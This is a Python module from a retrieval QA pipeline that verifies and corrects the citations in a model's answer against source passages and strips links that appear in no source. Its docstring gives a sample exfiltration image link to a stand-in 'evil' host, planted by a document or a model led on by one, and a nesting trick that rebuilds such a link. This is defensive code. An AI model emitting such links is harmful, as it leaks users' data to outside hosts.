"""The pipeline, not the model, decides what each answer sentence cites (pure functions).

For every sentence of the answer, the best-supporting span of every source is found
by lexical alignment: the share of the sentence's content words (stemmed, stop
words removed) that the span contains, over single source sentences and pairs of
adjacent ones. Numbers are strict: a span supports a sentence only if it contains
every number the sentence states (a model that writes "100 kg" for "25 kg" shares
all the other words). A cited [n] that supports the sentence is kept; a wrong one is
replaced by the source that does; a missing one is added; a sentence that no source
supports is marked. Each citation carries a verbatim quote of its supporting span.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

from ingest.chunking import sentence_spans
from ingest.lexical import tokenize

from .types import Citation, Hit

MIN_SUPPORT = 0.5  # at least half of a sentence's content words must be in the span
MIN_NOVEL = 0.5  # and half of the words the question did not already contain
KEEP_MARGIN = 0.15  # keep the model's own [n] unless another source is this much better
UNSUPPORTED = "(not found in the sources)"

# These run on model output and document text, so each is linear in its input (no
# two quantifiers that can trade the same characters, no scan that every later start
# repeats): a link's label, URL and title stop at the next "[", where the next try
# starts; the title must begin with the space that ends the URL; and a marker's
# leading spaces are only tried where a run of spaces begins.
_MD_LINK = re.compile(r"(!?)\[([^\[\]]*)\]\(([^)\s\[]*)(?:\s[^)\[]*)?\)")
_BARE_URL = re.compile(r"\b(?:https?|ftp|file|data|javascript):[^\s)\]]+", re.IGNORECASE)
_NUMBER = re.compile(r"\d+(?:[.,]\d+)*")
_MARKER = re.compile(r"(?<!\s)\s*\[(\d+(?:\s*,\s*\d+)*)\]")
_ANSWER_SENTENCE = re.compile(r"(?<=[.!?])\s+|\n+")


@dataclass(frozen=True)
class Span:
    score: float  # share of the sentence's content words in the span
    start: int
    end: int
    novel: float = 1.0  # share of the words the question did not already contain


def numbers(text: str) -> set[str]:
    """Numbers as written, thousands separators dropped ("1,200" == "1200")."""
    return {n.replace(",", "") for n in _NUMBER.findall(text)}


def best_span(sentence_tokens: set[str], text: str, required_numbers: frozenset[str] = frozenset(), novel_tokens: frozenset[str] = frozenset()) -> Span:
    """The span of `text` (one sentence or two adjacent ones) that best supports the
    sentence: most of its new words (those the question did not contain), then most
    of all its words, among spans that contain every required number."""
    if not sentence_tokens:
        return Span(0.0, 0, 0)
    spans = sentence_spans(text)
    candidates = spans + [(a[0], b[1]) for a, b in zip(spans, spans[1:])]  # singles first: shorter wins ties
    best, best_key = Span(0.0, 0, 0, 0.0), (-1.0, -1.0)
    for s, e in candidates:
        if required_numbers and not required_numbers <= numbers(text[s:e]):
            continue
        words = set(tokenize(text[s:e]))
        novel = len(novel_tokens & words) / len(novel_tokens) if novel_tokens else 1.0
        score = len(sentence_tokens & words) / len(sentence_tokens)
        key = (round(novel, 9), round(score, 9))
        if key > best_key:  # strictly better only: on ties the earlier, shorter span stays
            best, best_key = Span(score, s, e, novel), key
    return best


def strip_foreign_links(answer: str, hits: list[Hit]) -> str:
    """Remove markdown images, links and URLs that appear in no source.

    A document (or a model led on by one) can plant `![](https://evil/?q=secret)`;
    rendered in a browser that would fetch the URL. Links the sources contain stay,
    as plain text. Removing an inner link can join its neighbours into a new one
    (`![![x](a)](//evil)` becomes `![](//evil)`), and a link the pattern does not
    read stays as written, so every "](" left over is broken up at the end: no
    inline link or image survives, whatever the nesting.
    """
    sources = " ".join(h.chunk.text for h in hits)

    def link(m: re.Match) -> str:
        image, label, url = m.groups()
        if url and url in sources:
            return f"{label} ({url})" if label else url
        return "" if image else label

    text = _MD_LINK.sub(link, answer)
    text = _BARE_URL.sub(lambda m: m.group(0) if m.group(0) in sources else "", text)
    return text.replace("](", "] (")


def split_answer(text: str) -> list[tuple[str, list[int]]]:
    """Answer sentences with the source numbers they cite (each once, in order of
    first mention), markers removed."""
    out = []
    for raw in _ANSWER_SENTENCE.split(text.strip()):
        if not raw.strip():
            continue
        cited = list(dict.fromkeys(int(n) for m in _MARKER.finditer(raw) for n in m.group(1).split(",")))
        body = _MARKER.sub("", raw).strip()
        if body:
            out.append((body, cited))
    return out


def verify(answer: str, hits: list[Hit], question: str = "", min_support: float = MIN_SUPPORT, min_novel: float = MIN_NOVEL) -> tuple[str, list[Citation], list[str]]:
    """Check and correct the citations of `answer` against the numbered `hits`.

    A source supports a sentence when its best span holds `min_support` of the
    sentence's content words and `min_novel` of those the `question` did not already
    contain: echoing the question is easy, the answer's own words are the claim.

    Returns the answer with corrected markers, one citation per cited source (with
    the quote supporting the first sentence that cites it), and notes on changes.
    """
    citations: dict[int, Citation] = {}
    notes: list[str] = []
    sentences = []
    seen: set[str] = set()
    for body, claimed in split_answer(answer):
        if body.lower() in seen:  # a small model may loop on one sentence
            continue
        seen.add(body.lower())
        tokens = set(tokenize(body))
        if not tokens:
            sentences.append(body)
            continue
        required = frozenset(numbers(body))
        novel = frozenset(tokens - set(tokenize(question)))
        spans = {n: best_span(tokens, h.chunk.text, required, novel) for n, h in enumerate(hits, start=1)}

        def supports(n: int) -> bool:
            return spans[n].score >= min_support and spans[n].novel >= min_novel

        best_n = max(spans, key=lambda n: (spans[n].novel, spans[n].score)) if spans else None
        kept = [n for n in claimed if n in spans and supports(n) and spans[n].score >= spans[best_n].score - KEEP_MARGIN]
        if not kept and best_n is not None and supports(best_n):
            kept = [best_n]
            if claimed:
                notes.append(f"corrected citation {claimed} -> [{best_n}] for: {body[:60]}")
            else:
                notes.append(f"added citation [{best_n}] for: {body[:60]}")
        if not kept:
            sentences.append(f"{body} {UNSUPPORTED}")
            notes.append(f"no source supports: {body[:60]}")
            continue
        for n in kept:
            if n not in citations:
                chunk, span = hits[n - 1].chunk, spans[n]
                citations[n] = Citation(n, chunk.source, chunk.page, chunk.text[span.start : span.end], chunk.chunk_id, chunk.ocr)
        sentences.append(_with_markers(body, kept))
    return " ".join(sentences), sorted(citations.values(), key=lambda c: c.n), notes


def _with_markers(body: str, ns: list[int]) -> str:
    """'Leave is 1.5 days.' + [1] -> 'Leave is 1.5 days [1].'"""
    marks = "".join(f"[{n}]" for n in ns)
    stem = body.rstrip(".!?")  # not re.search("[.!?]+$"): quadratic on "....x"
    if len(stem) < len(body):
        return f"{stem} {marks}{body[len(stem):]}"
    return f"{body} {marks}"
